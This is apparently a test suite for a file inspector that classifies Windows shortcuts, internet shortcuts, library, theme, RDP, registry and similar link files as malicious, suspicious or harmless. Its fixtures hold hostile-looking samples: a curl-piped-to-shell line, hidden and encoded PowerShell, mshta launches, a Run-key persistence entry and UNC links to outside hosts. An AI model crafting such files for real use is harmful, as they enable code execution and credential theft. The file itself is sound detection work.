/** Shortcuts and link files, on their own and attached. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'
import { docx } from '#inspect/testing/samples.ts'
import { writeZip } from '#inspect/testing/zip-writer.ts'

const { inspect } = useInspector()

function accusations(bytes: Uint8Array): string[] {
  const { findings } = inspect(bytes)
  return findings.filter(({ severity }) => severity !== 'notice').map(({ id }) => id.replace('Docvet.', ''))
}

const attached = (name: string, data: Uint8Array | string): Uint8Array =>
  writeZip([
    { name, data: Buffer.from(data) },
    { name: 'a.txt', data: Buffer.from('text') },
  ])
const has = (bytes: Uint8Array, id: string): void => assert.ok(accusations(bytes).includes(id), `${accusations(bytes)}`)
const harmless = (bytes: Uint8Array): void => assert.deepEqual(accusations(bytes), [])

/** A shortcut with a relative path and arguments. */
function shortcut(target: string, args: string, { isWide = true, environment = '', isFolder = false } = {}): Buffer {
  const header = Buffer.alloc(76)
  Buffer.from('4c0000000114020000000000c000000000000046', 'hex').copy(header)
  header.writeUInt32LE(0x8 | 0x20 | (isWide ? 0x80 : 0), 20)
  if (isFolder) header.writeUInt32LE(0x10, 24)
  const text = (value: string) => {
    const length = Buffer.alloc(2)
    length.writeUInt16LE(value.length)
    return Buffer.concat([length, Buffer.from(value, isWide ? 'utf16le' : 'latin1')])
  }
  const block = Buffer.alloc(environment === '' ? 0 : 788)
  if (environment !== '') {
    block.writeUInt32LE(788, 0)
    block.writeUInt32LE(0xa0000001, 4)
    block.write(environment, 8, 'latin1')
    block.write(environment, 268, 'utf16le')
  }
  return Buffer.concat([header, text(target), text(args), block, Buffer.alloc(4)])
}

suite('a Windows shortcut', () => {
  test('with a command', () => has(attached('a.lnk', shortcut('cmd.exe', '/c calc')), 'Shortcut.Command'))
  test('with a hidden command', () =>
    has(
      attached('a.lnk', shortcut('a', '-w hidden -c calc', { environment: '%SystemRoot%\\powershell.exe' })),
      'Shortcut.Command',
    ))
  test('in Latin-1', () =>
    has(attached('a.lnk', shortcut('mshta.exe', 'http://example.com/a', { isWide: false })), 'Shortcut.Command'))
  test('to a share', () =>
    has(attached('a.lnk', shortcut('a', '', { environment: '\\\\files.example\\a\\b.exe' })), 'Shortcut.Remote'))
  test('to a program of unknown place is only a shortcut', () =>
    assert.deepEqual(accusations(attached('a.lnk', shortcut('notepad.exe', 'a.txt'))), ['Embedded.Shortcut']))
  test('to a document or folder is harmless', () => {
    const notepad = { environment: '%SystemRoot%\\System32\\notepad.exe' }
    const cases: [string, Buffer][] = [
      ['Plan.lnk', shortcut('C:\\Users\\Public\\Documents\\Plan.xlsx', '')],
      ['Plan.xlsx.lnk', shortcut('..\\Documents\\Plan.xlsx', '')],
      ['Projects.lnk', shortcut('\\\\fileserver01\\Projects\\2024', '')],
      ['Folder.lnk', shortcut('D:\\Photos 1.2', '', { isFolder: true })],
      ['Notes.lnk', shortcut('..\\..\\Windows\\System32\\notepad.exe', '"C:\\Users\\A B\\notes.txt"', notepad)],
    ]
    for (const [name, bytes] of cases) {
      harmless(attached(name, bytes))
      harmless(writeZip([{ name, data: bytes, method: 'stored' }]))
    }
  })
  test('to a document in the zone of a company is only suspicious, since an attacker may choose such a name', () => {
    const onServer = (host: string, file: string) =>
      accusations(attached('Plan.lnk', shortcut(`\\\\${host}\\a\\${file}`, '')))
    assert.deepEqual(onServer('fs01.corp.example.com', 'Plan.xlsx'), ['Shortcut.File'])
    for (const host of ['corp.example.com', 'fs01.corpus.example.com'])
      assert.ok(onServer(host, 'Plan.xlsx').includes('Shortcut.Remote'), host)
    assert.ok(onServer('fs01.corp.example.com', 'Plan.exe').includes('Shortcut.Remote'))
  })
  test('that only resembles one to a document is malicious', () => {
    const plan = 'C:\\Users\\Public\\Plan.xlsx'
    const cases: [string, Buffer][] = [
      ['invoice.pdf.lnk', shortcut(plan, '')],
      ['a.lnk', shortcut(plan, '/x')],
      ['a.lnk', shortcut(plan, '', { environment: '%TEMP%\\a.exe' })],
      ['a.lnk', shortcut('.\\a.exe', '', { environment: plan })],
      ['a.lnk', Buffer.concat([shortcut(plan, ''), Buffer.alloc(400, 'PK')])],
      ['a.lnk', shortcut(plan, '').subarray(0, -4)],
      ['a.lnk', shortcut('\\\\192.0.2.1\\a\\Plan.xlsx', '')],
      ['a.lnk', shortcut('\\\\files@80\\a\\Plan.xlsx', '')],
      ['a.lnk', shortcut('\\\\files\\a\\Plan.scr', '')],
      ['a.lnk', shortcut('', '/c a.docm', { environment: 'C:\\Program Files\\Office\\winword.exe' })],
      ['a.lnk', shortcut('C:\\Users\\Public\\calc.exe', '')],
    ]
    for (const [name, bytes] of cases) has(attached(name, bytes), 'Embedded.Shortcut')
    has(docx({ 'word/embeddings/a.bin': shortcut(plan, '') }), 'Embedded.Shortcut')
  })
  test('that is cut off is read as far as it goes', () => {
    const whole = shortcut('cmd.exe', '/c calc')
    for (let length = 20; length < whole.length; length += 3)
      assert.deepEqual(inspect(whole.subarray(0, length)).obstacle, null)
  })
})

const LIBRARY = (url: string) =>
  `<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>${url}</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>`

suite('link files', () => {
  const remote: [string, string][] = [
    ['a.url', '[InternetShortcut]\r\nURL=file://files.example/share/a.exe\r\n'],
    ['b.url', '[InternetShortcut]\r\nURL=https://example.com/\r\nIconFile=\\\\files.example\\a.ico\r\n'],
    ['c.url', '[InternetShortcut]\r\nURL=http://192.0.2.7/a\r\n'],
    ['d.url', '[InternetShortcut]\r\nURL=search-ms:query=a\r\n'],
    ['a.library-ms', LIBRARY('\\\\192.0.2.7\\s')],
    ['b.library-ms', LIBRARY('&#92;&#92;192.0.2.7\\s')],
    [
      'a.searchConnector-ms',
      '<?xml version="1.0"?><!-- a --><searchConnectorDescription><simpleLocation><url>https://example.com/dav</url></simpleLocation></searchConnectorDescription>',
    ],
    ['a.scf', '[Shell]\r\nCommand=2\r\nIconFile=\\\\files.example\\a.ico\r\n'],
    ['a.iqy', 'WEB\r\n1\r\nhttp://192.0.2.1/t\r\n'],
    [
      'a.jnlp',
      '<?xml version="1.0"?><jnlp codebase="http://203.0.113.4/" href="a.jnlp"><security><all-permissions/></security></jnlp>',
    ],
    [
      'a.theme',
      '; a\r\n[Theme]\r\nDisplayName=a\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\files.example\\a.jpg\r\n',
    ],
    [
      'a.inetloc',
      '<?xml version="1.0"?><plist version="1.0"><dict><key>URL</key><string>file://files.example/a</string></dict></plist>',
    ],
  ]
  for (const [name, text] of remote)
    test(`${name} to a server`, () => {
      has(attached(name, text), 'Shortcut.Remote')
      has(Buffer.from(text), 'Shortcut.Remote')
    })

  const commands: [string, string][] = [
    [
      'a.settingcontent-ms',
      '<?xml version="1.0"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></ApplicationInformation></SearchableContent></PCSettings>',
    ],
    [
      'a.msc',
      '<?xml version="1.0"?><MMC_ConsoleFile><StringTable><String>res://apds.dll/redirect.html?target=javascript:eval(1)</String></StringTable></MMC_ConsoleFile>',
    ],
    ['a.desktop', '[Desktop Entry]\nExec=sh -c "curl https://example.com/a | sh"\n'],
    [
      'a.wsb',
      '<Configuration><LogonCommand><Command>powershell -enc YQBhAGEAYQBhAGEAYQA=</Command></LogonCommand></Configuration>',
    ],
  ]
  for (const [name, text] of commands)
    test(`${name} with a command`, () => {
      has(attached(name, text), 'Shortcut.Command')
      has(Buffer.from(text), 'Shortcut.Command')
    })

  test('a registry file with a command', () => {
    const key =
      'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n'
    has(attached('a.reg', `${key}"a"="cmd /c \\"C:\\\\a.bat\\""\r\n`), 'Shortcut.Registry')
    has(attached('a.reg', `${key}"a"="C:\\\\Users\\\\Public\\\\a.exe"\r\n`), 'Shortcut.Registry')
    harmless(attached('a.reg', `${key}"a"="C:\\\\Program Files\\\\A\\\\a.exe"\r\n`))
    harmless(
      attached(
        'a.reg',
        'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\A]\r\n"path"="C:\\\\a"\r\n',
      ),
    )
  })

  const HARMLESS: [string, string][] = [
    ['bookmark.url', '[InternetShortcut]\r\nURL=https://example.com/\r\nIconFile=C:\\a.ico\r\n'],
    ['page.url', '[InternetShortcut]\r\nURL=https://example.com/\r\nIconFile=C:\\Windows\\System32\\url.dll\r\n'],
    ['blue.theme', '[Theme]\r\nDisplayName=Blue\r\n[boot]\r\nSCRNSAVE.EXE=C:\\Windows\\System32\\Bubbles.scr\r\n'],
    ['folder.library-ms', LIBRARY('knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}')],
    ['app.desktop', '[Desktop Entry]\nType=Application\nExec=gimp %U\nName=GIMP\n'],
    ['notes.txt', 'A file with [InternetShortcut] and URL=file://files.example/a opens a share.\n'],
    [
      'info.plist',
      '<?xml version="1.0"?><plist version="1.0"><dict><key>CFBundleName</key><string>A</string></dict></plist>',
    ],
    ['settings.xml', '<Configuration><Setting>1</Setting></Configuration>'],
  ]
  for (const [name, text] of HARMLESS) test(`${name} is harmless`, () => harmless(attached(name, text)))
})

test('files for servers of a company are suspicious, and shortcuts to settings are harmless', () => {
  const severity = (name: string, text: string): string | undefined =>
    inspect(attached(name, text)).findings[0]?.severity
  for (const [name, text] of [
    ['rates.iqy', 'WEB\r\n1\r\nhttps://example.com/rates?day=["day","Which day?"]\r\n'],
    ['erp.jnlp', '<?xml version="1.0"?><jnlp codebase="https://example.com/erp/" href="erp.jnlp"><resources/></jnlp>'],
    [
      'hr.jnlp',
      '<?xml version="1.0"?><jnlp codebase="https://example.com/hr/" href="hr.jnlp"><security><all-permissions/></security></jnlp>',
    ],
    [
      'kvm.jnlp',
      '<?xml version="1.0"?><jnlp codebase="https://10.0.12.7/"><security><all-permissions/></security></jnlp>',
    ],
    ['team.library-ms', LIBRARY('\\\\fs01.corp.example.com\\team')],
    ['sites.library-ms', LIBRARY('https://example.sharepoint.com/sites/team')],
    ['times.url', '[InternetShortcut]\r\nURL=file://files01.corp.example.com/hr/times.xlsx\r\n'],
  ] as const)
    assert.equal(severity(name, text), 'suspicious', name)
  const setting = (link: string): string | undefined =>
    severity('a.settingcontent-ms', `<?xml version="1.0"?><PCSettings><DeepLink>${link}</DeepLink></PCSettings>`)
  assert.equal(setting('%windir%\\system32\\control.exe /name Microsoft.Display'), undefined)
  assert.equal(setting('%windir%\\system32\\control.exe C:\\a.cpl'), 'malicious')
})

suite('a file for remote desktop', () => {
  const rdp = (host: string, more: string): string =>
    `screen mode id:i:2\r\nfull address:s:${host}\r\nauthentication level:i:0\r\n${more}`
  const DRIVES = 'drivestoredirect:s:*\r\n'
  const wide = (text: string): Buffer => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])
  test('that gives drives to a server is suspicious', () => {
    has(Buffer.from(rdp('a.example', DRIVES)), 'Shortcut.File')
    has(wide(rdp('198.51.100.7', `remoteapplicationmode:i:1\r\nremoteapplicationprogram:s:||a\r\n`)), 'Shortcut.File')
  })
  test('is malicious if attached and the server has no name', () =>
    has(attached('a.rdp', wide(rdp('198.51.100.7:3389', DRIVES))), 'Shortcut.Remote'))
  test('is malicious if attached, and a program of a server that is not checked looks like a local one', () => {
    const program = `${DRIVES}remoteapplicationmode:i:1\r\n`
    has(attached('a.rdp', rdp('a.example', program)), 'Shortcut.Remote')
    has(attached('a.rdp', rdp('a.example', program).replace('level:i:0', 'level:i:2')), 'Shortcut.File')
  })
  test('for a server of the company is harmless', () => {
    harmless(Buffer.from(rdp('terminal.corp', DRIVES)))
    harmless(attached('a.rdp', rdp('10.1.2.3', DRIVES)))
    harmless(Buffer.from(rdp('a.example', 'redirectprinters:i:1\r\n')))
    const published = (gateway: string): string =>
      rdp('rds.town.example', `remoteapplicationmode:i:1\r\ngatewayhostname:s:${gateway}\r\n`).replace(':0', ':2')
    harmless(Buffer.from(published('gate.town.example')))
    has(Buffer.from(published('gate.other.example')), 'Shortcut.File')
    has(Buffer.from(published('gate.town.example').replace('level:i:2', 'level:i:0')), 'Shortcut.File')
  })
})

test('a shortcut that people make for a console or a web application is harmless', () => {
  const console = (args: string) => shortcut('', args, { environment: 'C:\\Windows\\System32\\cmd.exe' })
  const browser = (args: string) =>
    shortcut('', args, { environment: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe' })
  harmless(attached('SAP.lnk', console('/k "C:\\SAP\\bin\\setenv.cmd"')))
  harmless(attached('Intranet.lnk', browser('--app=https://intranet.firma.example/ --profile-directory=Default')))
  for (const args of [
    '/k "C:\\Users\\Public\\a.cmd"',
    '/k D:\\a\\b.cmd',
    '/c C:\\SAP\\bin\\setenv.cmd & calc',
    '/k C:\\Temp\\a.bat',
  ])
    has(attached('SAP.lnk', console(args)), 'Embedded.Shortcut')
  for (const args of ['--app=https://203.0.113.5/', 'https://example.com/a.hta', '--app=data:text/html,a'])
    has(attached('Intranet.lnk', browser(args)), 'Embedded.Shortcut')
  has(attached('Report.pdf.lnk', browser('--app=https://example.com/')), 'Embedded.Shortcut')
})

test('a shortcut to a program of Windows, in a folder of its own or with settings of the company is harmless', () => {
  const to = (environment: string, args = '') => attached('Tool.lnk', shortcut('', args, { environment }))
  const system = (name: string) => `%windir%\\System32\\${name}`
  const product = 'C:\\Program Files\\Product\\client.exe'
  const java = 'C:\\Program Files\\Java\\bin\\javaw.exe'
  for (const bytes of [
    to(system('services.msc')),
    to(system('mstsc.exe'), '/v:ts01.corp.example.com /f'),
    to(system('mmc.exe'), 'C:\\Windows\\System32\\services.msc'),
    to(system('calc.exe')),
    to(system('msra.exe'), '/offerra'),
    to(system('quickassist.exe')),
    to('%windir%\\explorer.exe', 'H:\\'),
    to('%windir%\\explorer.exe', '\\\\fs01\\Departments'),
    to('C:\\Windows\\explorer.exe', '/root,"\\\\fs01\\Sales and marketing\\2025"'),
    to('C:\\Scripts\\backup.bat'),
    to(product, '/ini_file=\\\\fs01\\sap\\logon.ini'),
    to(java, '-jar "C:\\Program Files\\Product\\client.jar"'),
  ])
    harmless(bytes)
  for (const bytes of [
    to(system('mmc.exe'), 'C:\\Users\\Public\\a.msc'),
    to(system('mstsc.exe'), 'C:\\Users\\Public\\a.rdp'),
    to(system('calc.exe'), 'C:\\Users\\Public\\a.dll'),
    to(system('msra.exe'), '/openfile C:\\Users\\Public\\a.msrcincident'),
    to('%windir%\\explorer.exe', '\\\\203.0.113.5\\a'),
    to('%windir%\\explorer.exe', '\\\\fs01@80\\a'),
    to('%windir%\\explorer.exe', '\\\\fs01.example.com\\a\\b.exe'),
    to('%windir%\\explorer.exe', '/root,\\\\fs01\\a\\b.exe'),
    to('C:\\Users\\Public\\backup.bat'),
    to('C:\\Scripts\\backup.bat', '/x'),
    to(product, '/ini_file=\\\\203.0.113.5\\sap\\logon.ini'),
    to(java, '-jar "C:\\Users\\Public\\client.jar"'),
    attached('Invoice.lnk', shortcut('', '', { environment: system('services.msc') })),
  ])
    has(bytes, 'Embedded.Shortcut')
})

suite('a shortcut whose target is only a list of items', () => {
  /** The name as a file or folder, with a block for long names if it is one of Explorer. */
  function itemOf(name: string, type: number, isLong: boolean): Buffer {
    if (!isLong) {
      const plain = Buffer.concat([Buffer.alloc(14), Buffer.from(`${name}\0`, 'latin1')])
      plain.writeUInt16LE(plain.length, 0)
      plain[2] = type
      return plain
    }
    const short = Buffer.concat([Buffer.alloc(12), Buffer.from('A~1\0', 'latin1')])
    const long = Buffer.from(`${name}\0`, 'utf16le')
    const block = Buffer.concat([Buffer.alloc(20), long, Buffer.alloc(2)])
    block.writeUInt16LE(block.length, 0)
    block.writeUInt16LE(3, 2)
    block.writeUInt32LE(0xbeef0004, 4)
    const item = Buffer.concat([Buffer.alloc(2), short, block])
    item.writeUInt16LE(item.length, 0)
    item[2] = type
    item.writeUInt16LE(2 + short.length, item.length - 2)
    return item
  }
  function listed(path: readonly string[], args = '', isLong = true): Buffer {
    const header = Buffer.alloc(76)
    Buffer.from('4c0000000114020000000000c000000000000046', 'hex').copy(header)
    header.writeUInt32LE(0x1 | 0x80 | (args === '' ? 0 : 0x20), 20)
    const volume = Buffer.from('\x19\0/C:\\'.padEnd(25, '\0'), 'latin1')
    const items = path.map((name, i) => itemOf(name, i === path.length - 1 ? 0x32 : 0x31, isLong))
    const list = Buffer.concat([volume, ...items, Buffer.alloc(2)])
    const number = (value: number): Buffer => Buffer.from(Uint16Array.of(value).buffer)
    const text = args === '' ? [] : [number(args.length), Buffer.from(args, 'utf16le')]
    return Buffer.concat([header, number(list.length), list, ...text, Buffer.alloc(4)])
  }
  const EXCEL = ['Program Files', 'Microsoft Office', 'root', 'Office16', 'EXCEL.EXE']
  test('is harmless if it opens a document', () => {
    harmless(attached('Handbook.lnk', listed(['Users', 'Public', 'Handbook.pdf'])))
    harmless(attached('Budget.lnk', listed(EXCEL, '/e "P:\\Finance\\Budget 2025.xlsx"')))
  })
  test('is read if its items have short names only', () => {
    const client = (folder: string) => listed([folder, 'Contoso', 'client.exe'], '/profile:production', false)
    harmless(attached('Client.lnk', client('Program Files')))
    has(attached('Client.lnk', client('Users')), 'Embedded.Shortcut')
    has(attached('Client.lnk', listed(['Windows', 'cmd.exe'], '/c calc', false)), 'Shortcut.Command')
  })
  test('is malicious if it starts a program', () => {
    has(attached('Handbook.lnk', listed(['Users', 'Public', 'Handbook.exe'])), 'Embedded.Shortcut')
    has(attached('Budget.lnk', listed(EXCEL, '/e "\\\\files.example\\a.xll"')), 'Embedded.Shortcut')
  })
})

test('a list of SharePoint for Excel is suspicious, a query for a program malicious', () => {
  const query = (address: string): Uint8Array => attached('owssvr.iqy', `WEB\r\n1\r\n${address}\r\n`)
  for (const library of ['owssvr', 'owssvc'])
    has(query(`https://sharepoint.example/sites/a/_vti_bin/${library}.dll?XMLDATA=1&List={1}`), 'Shortcut.File')
  has(query('https://example.sharepoint.com/a.csv'), 'Shortcut.File')
  has(query('https://files.example/a.dll'), 'Shortcut.Remote')
  has(query('http://203.0.113.5/_vti_bin/owssvr.dll?XMLDATA=1'), 'Shortcut.Remote')
})

test('a query for the list of a signed-in company or for its own server is harmless', () => {
  for (const address of [
    'https://example.sharepoint.com/sites/a/_vti_bin/owssvr.dll?XMLDATA=1&List={1}',
    'http://intranet/rates.html',
    'https://10.0.0.4/rates',
  ])
    harmless(attached('a.iqy', `WEB\r\n1\r\n${address}\r\n`))
})
